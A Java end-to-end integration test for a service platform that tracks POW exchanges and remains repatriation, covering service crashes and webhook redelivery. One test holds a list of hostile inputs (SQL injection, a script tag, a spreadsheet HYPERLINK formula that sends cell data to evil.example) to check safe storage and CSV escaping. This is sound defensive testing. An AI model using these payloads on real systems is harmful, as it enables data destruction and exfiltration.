@@ -1,0 +1,373 @@
+package org.homeward.local.launcher;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import org.homeward.local.launcher.story.HomewardApi;
+import org.homeward.local.launcher.story.SeedStory;
+import org.homeward.local.launcher.story.SignedWebhookSubscriber;
+import org.homeward.local.launcher.story.StoryPeople;
+import org.homeward.local.launcher.story.StoryReport;
+import org.assertj.core.data.Offset;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.MethodOrderer;
+import org.junit.jupiter.api.Order;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestMethodOrder;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.Set;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.ScheduledExecutorService;
+import java.util.concurrent.TimeUnit;
+import java.util.stream.Collectors;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+
+/**
+ * The seed story end to end, with the numbers every service must show, and the platform's faults: a webhook
+ * receiver down during the story; then, while a 1,200-body handover flows, every service crashing at its
+ * commit boundaries (failpoints of the {@code e2e} profile), the broker and the database restarted, and a
+ * service killed at random.
+ */
+@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
+class SeedStoryIT {
+
+    private static final String UA = "org-ua-coordination";
+    /** Short retries, so that a receiver down for a while gets everything within the test's patience. */
+    private static final String RETRY_SCHEDULE = "PT0S,PT2S,PT2S,PT5S,PT5S,PT10S,PT10S,PT20S,PT20S,PT30S";
+
+    static Path root;
+    static Platform platform;
+    static HomewardApi api;
+
+    @BeforeAll
+    static void startPlatform() {
+        root = Platform.findRepositoryRoot(Path.of(System.getProperty("homeward.root", ".")));
+        Path work = Path.of("target", "e2e-story-" + System.currentTimeMillis()).toAbsolutePath();
+        platform = Platform.start(Platform.Settings.ephemeral(root, work)
+                .withOverrides("notification", Map.of("homeward.webhooks.retry-schedule", RETRY_SCHEDULE)));
+        api = Demo.api(platform);
+    }
+
+    @AfterAll
+    static void stopPlatform() {
+        if (platform != null) {
+            platform.close();
+        }
+    }
+
+    @Test
+    @Order(1)
+    void theSeedStoryShowsTheSameNumbersInEveryServiceAndAReceiverThatWasDownMissesNothing() throws Exception {
+        String admin = api.token("e2e-subscriptions", UA, "UA", "subscriber-admin");
+        ScheduledExecutorService clock = Executors.newSingleThreadScheduledExecutor();
+        try (SignedWebhookSubscriber story = new SignedWebhookSubscriber("story", null);
+             SignedWebhookSubscriber down = new SignedWebhookSubscriber("down", null)) {
+            JsonNode drill = api.write(201, "notification", "POST", "/api/v1/subscriptions", admin, Map.of("url", down.url(),
+                    "eventTypes", List.of("agreement.*", "transfer.*"), "rateLimitPerSecond", 1000));
+            down.trust(drill.path("secret").asText());
+            down.goDown();
+            // Down while the agreement is signed, the prisoners exchanged and the first bodies handed over.
+            clock.schedule(down::comeBack, 45, TimeUnit.SECONDS);
+
+            StoryReport report = new SeedStory(api, System.out, root, "e2e").play(story);
+            report.print(System.out);
+
+            // agreement-service: 4,812 of 6,000 bodies one way (80.2%), none the other, the balance flagged.
+            StoryReport.Term toUkraine = report.term("REMAINS_REPATRIATION", "RU", "UA", null);
+            assertThat(toUkraine.committed()).isEqualTo(6000);
+            assertThat(toUkraine.received()).isEqualTo(4812);
+            assertThat(toUkraine.percent()).isCloseTo(80.2, Offset.offset(1e-9));
+            assertThat(report.term("REMAINS_REPATRIATION", "UA", "RU", null).received()).isZero();
+            assertThat(report.balances()).anySatisfy(balance -> {
+                assertThat(balance.direction()).isEqualTo("RU→UA");
+                assertThat(balance.received()).isEqualTo(4812);
+                assertThat(balance.reciprocalReceived()).isZero();
+                assertThat(balance.outOfTolerance()).isTrue();
+            });
+            for (String category : List.of("SERIOUSLY_WOUNDED_OR_SICK", "AGED_18_TO_25")) {
+                assertThat(report.term("POW_EXCHANGE", "RU", "UA", category).received()).isEqualTo(15);
+                assertThat(report.term("POW_EXCHANGE", "UA", "RU", category).received()).isEqualTo(15);
+            }
+
+            // transfer-service: the week's receipts in Kyiv time, and how each handover ended.
+            assertThat(report.week()).containsExactlyInAnyOrder(
+                    new StoryReport.WeekTotal("2025-W24", "RU", "UA", "REMAINS", 4, 4812),
+                    new StoryReport.WeekTotal("2025-W24", "RU", "UA", "PRISONERS", 1, 30),
+                    new StoryReport.WeekTotal("2025-W24", "UA", "RU", "PRISONERS", 1, 30));
+            assertThat(report.handoverStates()).containsExactly("PARTIALLY_RECEIVED", "RECEIVED", "RECEIVED", "RECEIVED");
+
+            // identification-service: a case per body that arrived, none twice; eight identified by DNA; the
+            // prisoners' identity checks.
+            assertThat(report.cases()).containsEntry("received", 4812L).containsEntry("identified", 8L)
+                    .containsEntry("withdrawn", 0L);
+            assertThat(count("identification", "select count(*) from remains_case where agreement_id = '" + report.agreementId() + "'"))
+                    .isEqualTo(4812);
+            assertThat(count("identification", "select count(distinct tag) from remains_case where agreement_id = '"
+                    + report.agreementId() + "'")).as("no body has two cases").isEqualTo(4812);
+            assertThat(report.prisonerChecks()).isEqualTo(Map.of("MATCHED → DONE", 28, "PROBABLE → CONFIRMED", 2));
+
+            // notification-service: every case event reached the subscriber, each once after deduplication, every
+            // signature verified by the reference library.
+            assertThat(report.webhooks().eventsByType()).containsEntry("identification.case.opened", 4812)
+                    .containsEntry("identification.identification.confirmed", 8);
+            assertThat(report.webhooks().rejected()).isZero();
+
+            // The receiver that was down got, after it came back, exactly what the other one got of the story.
+            assertThat(idsOf(story, report.agreementId())).hasSizeGreaterThan(20);
+            await().atMost(Duration.ofMinutes(3)).pollInterval(Duration.ofSeconds(1)).untilAsserted(() ->
+                    assertThat(idsOf(down, report.agreementId())).isEqualTo(idsOf(story, report.agreementId())));
+            assertThat(down.tally().rejected()).isZero();
+            JsonNode deliveries = api.read("notification", "/api/v1/subscriptions/" + drill.path("id").asText()
+                    + "/deliveries?size=100", admin).path("items");
+            assertThat(deliveries.findValues("attempts")).as("attempts refused while the receiver was down")
+                    .anyMatch(attempts -> attempts.asInt() > 1);
+            api.send("notification", "DELETE", "/api/v1/subscriptions/" + drill.path("id").asText(), admin, null, null, Map.of());
+        } finally {
+            clock.shutdownNow();
+        }
+    }
+
+    @Test
+    @Order(2)
+    void servicesCrashingAtTheirCommitBoundariesAndKilledAtRandomLoseAndDuplicateNothing() throws Exception {
+        String ua = api.token("e2e-ua", UA, "UA", "coordinator");
+        String ru = api.token("e2e-ru", "org-ru-coordination", "RU", "coordinator");
+        Handover handover = plannedHandover("E2E-FAULTS", "Repatriation under faults", "Ukraine", "Russia",
+                "A. Signatory", "Border crossing", 1200, "2025-06-20");
+        String id = handover.agreementId();
+        String transfer = handover.transferId();
+        String base = "/api/v1/transfers/" + transfer;
+        assertThat(api.send("transfer", "PUT", base + "/manifest", ru, "text/csv; charset=UTF-8",
+                StoryPeople.remainsManifest("FAULT", 1200), Map.of()).status()).isEqualTo(200);
+
+        try (SignedWebhookSubscriber receiver = new SignedWebhookSubscriber("faults", null)) {
+            JsonNode subscription = api.write(201, "notification", "POST", "/api/v1/subscriptions",
+                    api.token("e2e-subscriptions", UA, "UA", "subscriber-admin"), Map.of("url", receiver.url(),
+                            "eventTypes", List.of("identification.case.*"), "rateLimitPerSecond", 1000));
+            receiver.trust(subscription.path("secret").asText());
+
+            api.write(200, "transfer", "POST", base + "/dispatch", ru, Map.of("count", 1200, "dispatchedAt", "2025-06-20T07:00:00Z"));
+            // The ledger has the dispatch before agreement-service is armed, so that its crash is on the receipt.
+            await().atMost(Duration.ofMinutes(1)).until(() -> api.read("agreement", "/api/v1/agreements/" + id + "/fulfilment", ua)
+                    .path("terms").get(0).path("dispatched").asLong() == 1200);
+
+            // Each service restarted with a crash point inside the flow that is about to start: the relay of the
+            // transfer's item records halts between the broker's acknowledgement and marking the rows (the
+            // fourth batch after the restart: the receipt makes seven of 200, and at most one totals report goes
+            // before them), each consumer after its database commit, before the offset commit (agreement-service
+            // on the receipt's event, the others mid-stream).
+            Map<String, String> failpoints = Map.of(
+                    "transfer", "relay.after-send=4",
+                    "identification", "inbox.after-commit@identification-service.cases=250",
+                    "agreement", "inbox.after-commit@agreement-service.fulfilment-ledger=1",
+                    "notification", "inbox.after-commit@notification-service.fanout.identification=300");
+            inParallel(failpoints.keySet(), service -> {
+                ServiceProcess process = platform.service(service);
+                process.stop();
+                process.start(Map.of("quarkus.profile", "prod,e2e", "homeward.failpoints", failpoints.get(service)));
+                process.awaitReady(Duration.ofMinutes(2));
+            });
+
+            api.write(200, "transfer", "POST", base + "/receipt", ua, Map.of("count", 1200, "receivedAt", "2025-06-20T12:00:00Z"));
+
+            inParallel(failpoints.keySet(), service -> {
+                ServiceProcess process = platform.service(service);
+                assertThat(process.awaitExit(Duration.ofMinutes(4))).as(service + " reached its failpoint").isTrue();
+                assertThat(process.exitValue()).as(service + " halted").isEqualTo(137);
+                process.start();
+                process.awaitReady(Duration.ofMinutes(2));
+            });
+            for (String service : failpoints.keySet()) {
+                assertThat(Files.readString(platform.service(service).log()))
+                        .contains("Failpoint " + failpoints.get(service).split("=")[0] + " reached");
+            }
+
+            // The broker restarts while the rest of the handover flows (notification-service has just come back
+            // from its crash at its 300th event), then the PostgreSQL server (every service's database at once).
+            assertThat(casesOpened(receiver, transfer)).as("webhooks delivered when the broker restarts").isLessThan(1200);
+            platform.restartBroker();
+            Thread.sleep(3000);
+            platform.restartDatabase();
+
+            // And a kill -9 at a random moment while webhooks are being delivered.
+            long pause = new Random().nextInt(2000);
+            System.out.printf("Killing notification-service %d ms after the database restart%n", pause);
+            Thread.sleep(pause);
+            assertThat(casesOpened(receiver, transfer)).as("webhooks delivered at the kill").isLessThan(1200);
+            ServiceProcess notification = platform.service("notification");
+            notification.kill();
+            notification.start();
+            notification.awaitReady(Duration.ofMinutes(2));
+
+            // Exactly 1,200 everywhere.
+            await().atMost(Duration.ofMinutes(4)).pollInterval(Duration.ofSeconds(1)).ignoreExceptions().untilAsserted(() -> {
+                assertThat(api.read("identification", "/api/v1/case-statistics?transferId=" + transfer,
+                        api.token("e2e-press", "org-press", null, "observer")).path("counts").path("received").asLong())
+                        .isEqualTo(1200);
+                assertThat(api.read("agreement", "/api/v1/agreements/" + id + "/fulfilment", ua)
+                        .path("terms").get(0).path("received").asLong()).isEqualTo(1200);
+                assertThat(casesOpened(receiver, transfer)).isEqualTo(1200);
+            });
+            assertThat(count("identification", "select count(*) from remains_case where transfer_id = '" + transfer + "'"))
+                    .isEqualTo(1200);
+            assertThat(count("identification", "select count(distinct tag) from remains_case where transfer_id = '"
+                    + transfer + "'")).as("no body has two cases").isEqualTo(1200);
+            assertThat(count("notification", "select count(*) from delivery d join subscription s on s.id = d.subscription_id"
+                    + " where s.url = '" + receiver.url() + "'")).isEqualTo(1200);
+            assertThat(receiver.tally().rejected()).isZero();
+            // The records applied before the crashes came again and were recognised (counted since the restart).
+            assertThat(duplicatesSkipped("identification")).isPositive();
+            assertThat(duplicatesSkipped("agreement")).isPositive();
+            api.send("notification", "DELETE", "/api/v1/subscriptions/" + subscription.path("id").asText(),
+                    api.token("e2e-subscriptions", UA, "UA", "subscriber-admin"), null, null, Map.of());
+        }
+    }
+
+    /** Text that attacks whoever reads it carelessly: SQL, markup, spreadsheet formulas, quotes and backslashes. */
+    private static final List<String> HOSTILE = List.of("Robert'); DROP TABLE remains_case;--",
+            "<script>alert(\"x\")</script>", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1+1)",
+            "-2+3", "@cmd", "O'Brien \\\"quoted\\\"", "' OR '1'='1");
+
+    @Test
+    @Order(3)
+    void hostileButValidTextIsStoredVerbatimAndReturnedSafely() throws Exception {
+        String ua = api.token("e2e-ua", UA, "UA", "coordinator");
+        String ru = api.token("e2e-ru", "org-ru-coordination", "RU", "coordinator");
+        Handover handover = plannedHandover("E2E-HOSTILE", HOSTILE.get(1), HOSTILE.get(0), HOSTILE.get(2), HOSTILE.get(7),
+                HOSTILE.get(4), 10, "2025-06-21");
+        JsonNode read = api.read("agreement", "/api/v1/agreements/" + handover.agreementId(), ua);
+        assertThat(read.path("title").asText()).isEqualTo(HOSTILE.get(1));
+        assertThat(read.path("parties").findValuesAsText("name")).containsExactly(HOSTILE.get(0), HOSTILE.get(2));
+        assertThat(api.read("transfer", "/api/v1/transfers/" + handover.transferId(), ru).path("handoverPoint")
+                .path("name").asText()).isEqualTo(HOSTILE.get(4));
+        String transfer = handover.transferId();
+        String base = "/api/v1/transfers/" + transfer;
+
+        // A name that displays as another (right-to-left override) is refused, naming the cell, not its text.
+        String columns = "tag,nationality,category,surname,firstNames,patronymic,dateOfBirth,serviceNumber,recoveryPlace,"
+                + "recoveryDate,personalEffects\n";
+        HomewardApi.Answer overridden = api.send("transfer", "PUT", base + "/manifest", ru, "text/csv; charset=UTF-8",
+                columns + "H-1,UA,MILITARY,\u202Eоко,Тарас,,,,Бахмут,2025-04-05,\n", Map.of());
+        assertThat(overridden.status()).isEqualTo(422);
+        assertThat(overridden.body()).contains("rows[1].surname").doesNotContain("\u202E");
+
+        StringBuilder manifest = new StringBuilder(columns);
+        for (int i = 0; i < HOSTILE.size(); i++) {
+            manifest.append("H-").append(i + 1).append(",UA,MILITARY,").append(csvCell(HOSTILE.get(i))).append(',')
+                    .append(csvCell(HOSTILE.get((i + 1) % HOSTILE.size()))).append(",,,,Бахмут,2025-04-05,\n");
+        }
+        assertThat(api.send("transfer", "PUT", base + "/manifest", ru, "text/csv; charset=UTF-8", manifest.toString(),
+                Map.of()).status()).isEqualTo(200);
+        JsonNode items = api.send("transfer", "GET", base + "/manifest", ua, null, null, Map.of("Accept", "application/json"))
+                .json().path("items");
+        assertThat(items.findValuesAsText("surname")).containsExactlyElementsOf(HOSTILE);
+        // As CSV every cell a spreadsheet would run is defused with an apostrophe, the rest left as it was.
+        String csv = api.send("transfer", "GET", base + "/manifest", ua, null, null, Map.of("Accept", "text/csv")).body();
+        assertThat(csv).contains("\"'=HYPERLINK(", "\"'+SUM(1+1)\"", "\"'-2+3\"", "\"'@cmd\"", "\"<script>alert(\"\"x\"\")</script>\"")
+                .doesNotContain(",\"=HYPERLINK", ",\"+SUM", ",\"@cmd");
+
+        // The claimed names travel to identification-service as they were written.
+        api.write(200, "transfer", "POST", base + "/dispatch", ru, Map.of("count", HOSTILE.size(), "dispatchedAt", "2025-06-21T07:00:00Z"));
+        api.write(200, "transfer", "POST", base + "/receipt", ua, Map.of("count", HOSTILE.size(), "receivedAt", "2025-06-21T12:00:00Z"));
+        await().atMost(Duration.ofMinutes(1)).until(() -> api.read("identification", "/api/v1/cases?transferId=" + transfer
+                + "&size=100", ua).path("items").size() == HOSTILE.size());
+        JsonNode cases = api.read("identification", "/api/v1/cases?transferId=" + transfer + "&size=100", ua).path("items");
+        assertThat(cases.findValues("claimed").stream().map(claimed -> claimed.path("surname").asText()))
+                .containsExactlyInAnyOrderElementsOf(HOSTILE);
+
+        // And the register keeps a family's report as written (its own text rules aside).
+        JsonNode reported = api.write(201, "identification", "POST", "/api/v1/missing-persons", ua, Map.of(
+                "surname", HOSTILE.get(0), "firstNames", HOSTILE.get(1), "script", "Latn", "party", "UA",
+                "category", "MILITARY", "source", "FAMILY_REPORT", "circumstances", HOSTILE.get(2), "reportedOn", "2025-05-30"));
+        JsonNode person = api.read("identification", "/api/v1/missing-persons/" + reported.path("personId").asText(), ua);
+        assertThat(person.path("surname").asText()).isEqualTo(HOSTILE.get(0));
+        assertThat(person.toString()).contains(HOSTILE.get(2).replace("\"", "\\\""));
+    }
+
+    private static String csvCell(String value) {
+        return "\"" + value.replace("\"", "\"\"") + "\"";
+    }
+
+    private static double duplicatesSkipped(String service) {
+        return api.get(service, "/q/metrics", null).body().lines()
+                .filter(line -> line.startsWith("homeward_events_duplicates_total{"))
+                .mapToDouble(line -> Double.parseDouble(line.substring(line.lastIndexOf(' ') + 1))).sum();
+    }
+
+    /** An agreement's id and the transfer planned under it. */
+    private record Handover(String agreementId, String transferId) {
+    }
+
+    /**
+     * An ACTIVE agreement of one term, {@code quantity} bodies from RU to UA (drafted by UA, signed by both),
+     * and a transfer of remains planned under it by RU for {@code day}.
+     */
+    private static Handover plannedHandover(String reference, String title, String uaName, String ruName, String signatory,
+                                            String handoverPoint, int quantity, String day) {
+        String ua = api.token("e2e-ua", UA, "UA", "coordinator");
+        String ru = api.token("e2e-ru", "org-ru-coordination", "RU", "coordinator");
+        JsonNode agreement = api.write(201, "agreement", "POST", "/api/v1/agreements", ua, Map.of(
+                "reference", reference, "title", title, "concludedOn", "2025-06-02", "effectiveDate", "2025-06-07",
+                "parties", List.of(Map.of("code", "UA", "name", uaName), Map.of("code", "RU", "name", ruName)),
+                "mediators", List.of("org-tr-mfa"), "intermediaries", List.of("org-icrc"),
+                "terms", List.of(Map.of("kind", "REMAINS_REPATRIATION", "fromParty", "RU", "toParty", "UA",
+                        "basis", "QUANTITY", "quantity", quantity))));
+        String id = agreement.path("id").asText();
+        for (String signer : List.of(ua, ru)) {
+            api.write(200, "agreement", "POST", "/api/v1/agreements/" + id + "/signatures", signer,
+                    Map.of("signatoryName", signatory, "signatoryTitle", "Head of delegation"));
+        }
+        await().atMost(Duration.ofMinutes(1)).until(() -> api.get("transfer", "/api/v1/agreement-views/" + id, ru)
+                .body().contains("\"ACTIVE\""));
+        String transfer = api.write(201, "transfer", "POST", "/api/v1/transfers", ru, Map.of("agreementId", id,
+                "termIds", List.of(agreement.path("terms").get(0).path("id").asText()), "kind", "REMAINS",
+                "fromParty", "RU", "toParty", "UA", "escortOrganisation", "org-icrc", "scheduledAt", day + "T06:00:00Z",
+                "handoverPoint", Map.of("name", handoverPoint, "timeZone", "Europe/Kyiv"))).path("id").asText();
+        return new Handover(id, transfer);
+    }
+
+    private interface ServiceStep {
+        void run(String service) throws Exception;
+    }
+
+    /** One thread per service: a step that waits for another service's progress must never queue behind it. */
+    private static void inParallel(Set<String> services, ServiceStep step) {
+        ExecutorService threads = Executors.newFixedThreadPool(services.size());
+        try {
+            CompletableFuture.allOf(services.stream().map(service -> CompletableFuture.runAsync(() -> {
+                try {
+                    step.run(service);
+                } catch (Exception e) {
+                    throw new IllegalStateException(service + ": " + e.getMessage(), e);
+                }
+            }, threads)).toArray(CompletableFuture[]::new)).join();
+        } finally {
+            threads.shutdownNow();
+        }
+    }
+
+    private static long casesOpened(SignedWebhookSubscriber receiver, String transfer) {
+        return receiver.events().values().stream().filter(event -> event.type().equals("identification.case.opened")
+                && event.data().path("transferId").asText().equals(transfer)).count();
+    }
+
+    private static Set<String> idsOf(SignedWebhookSubscriber subscriber, String agreementId) {
+        return subscriber.events().entrySet().stream()
+                .filter(e -> e.getValue().type().startsWith("agreement.") || e.getValue().type().startsWith("transfer."))
+                .filter(e -> e.getValue().data().path("agreementId").asText().equals(agreementId))
+                .map(Map.Entry::getKey).collect(Collectors.toSet());
+    }
+
+    private static long count(String service, String sql) {
+        return platform.database(service).queryForLong(sql);
+    }
+}
